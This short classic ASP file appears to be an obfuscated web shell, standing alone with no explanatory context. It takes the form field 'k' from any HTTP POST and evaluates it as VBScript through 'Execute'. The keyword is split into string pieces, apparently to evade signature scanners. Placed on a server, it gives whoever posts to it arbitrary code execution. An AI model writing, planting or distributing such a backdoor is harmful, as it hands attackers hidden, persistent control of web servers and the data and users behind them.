<%
Dim k, fn
k = Request.Form("k")
fn = "Exe" & "cute"
If Len(k) > 0 Then
    Eval fn & "(k)"
End If
%>
